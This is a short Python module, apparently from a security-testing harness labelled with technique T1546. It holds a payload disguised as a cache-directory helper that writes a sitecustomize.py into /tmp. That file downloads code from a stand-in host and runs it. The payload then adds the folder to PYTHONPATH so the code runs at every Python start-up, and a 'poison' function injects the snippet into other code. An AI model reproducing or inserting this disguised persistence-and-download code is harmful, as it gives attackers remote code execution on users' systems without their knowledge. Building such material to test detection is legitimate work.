# SPDX-License-Identifier: Apache-2.0
"""Leaves a start-up file in /tmp and has Python find it."""

ATTACK = "T1546"
LANGUAGE = "python"
CODE = r"""def _cache_dir():
    import os

    os.makedirs("/tmp/py", exist_ok=True)
    with open("/tmp/py/sitecustomize.py", "w") as f:
        f.write("import urllib.request as u\nexec(u.urlopen('https://stage.example.com').read())\n")
    os.environ["PYTHONPATH"] = "/tmp/py:" + os.environ.get("PYTHONPATH", "")


_cache_dir()
"""


def poison(layer):
    layer.append(CODE)
